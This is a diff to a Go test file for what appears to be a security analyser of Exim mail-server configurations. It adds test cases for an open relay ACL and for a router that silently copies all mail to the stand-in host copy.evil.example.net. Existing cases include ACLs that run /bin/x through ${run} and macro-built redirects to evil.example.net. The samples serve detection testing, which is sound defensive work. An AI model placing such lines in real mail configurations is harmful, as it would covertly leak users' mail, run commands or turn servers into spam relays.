@@ -15,7 +15,7 @@ const passwd = "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:
 // base has what a test's lines are put into, by section.
 func base(sections map[string]string) string {
 	return "primary_hostname = mail.example.test\ndomainlist local_domains = @ : example.test\nhostlist relay_from_hosts = 127.0.0.1\nacl_smtp_rcpt = rcpt\nacl_smtp_data = data\n" + sections["main"] +
-		"\nbegin acl\nrcpt:\n" + sections["rcpt"] + "\n  accept\ndata:\n" + sections["data"] + "\n  accept\n" + sections["acl"] +
+		"\nbegin acl\nrcpt:\n" + sections["rcpt"] + "\n  require domains = +local_domains\n  accept\ndata:\n" + sections["data"] + "\n  accept\n" + sections["acl"] +
 		"\nbegin routers\n" + sections["routers"] +
 		"\nlocal:\n  driver = accept\n  check_local_user\n  transport = spool\nout:\n  driver = dnslookup\n  domains = ! +local_domains\n  transport = smtp\n" +
 		"\nbegin transports\nspool:\n  driver = appendfile\n  file = /var/mail/$local_part_data\n" + sections["spool"] + "\nsmtp:\n  driver = smtp\n" + sections["smtp"] + "\n" + sections["transports"] +
@@ -140,6 +140,8 @@ func TestHooks(t *testing.T) {
 		{"who hears passwords", map[string]string{"auth": "d:\n  driver = dovecot\n  public_name = PLAIN\n  server_socket = /run/dovecot/auth\n"}, nil, want{directive: "server_socket", target: "unix:/run/dovecot/auth"}},
 		{"an ACL in its option", map[string]string{"main": "acl_smtp_mail = accept condition = ${run{/bin/x}}\n"}, nil, want{directive: "${run}", target: "/bin/x"}},
 		{"an ACL in a file", map[string]string{"main": "acl_smtp_mail = /etc/exim/acl\n"}, map[waxseal.Path]string{"/etc/exim/acl": "accept\n  condition = ${run{/bin/x}}\n"}, want{directive: "${run}", target: "/bin/x"}},
+		{"an open relay", map[string]string{"rcpt": "  accept hosts = *"}, nil, want{directive: "acl_smtp_rcpt", kind: waxseal.KindPolicy, remote: true}},
+		{"a copy to a host", map[string]string{"routers": "z:\n  driver = manualroute\n  unseen\n  route_list = * copy.evil.example.net\n  transport = smtp\n"}, nil, want{directive: "unseen", kind: waxseal.KindCopy, target: "copy.evil.example.net", remote: true}},
 		{"macros", map[string]string{"main": "WHO = drop\nWHERE = evil.example.net\n", "routers": "z:\n  driver = redirect\n  data = WHO@WHERE\n  unseen\n"}, nil, want{directive: "unseen", target: evil}},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
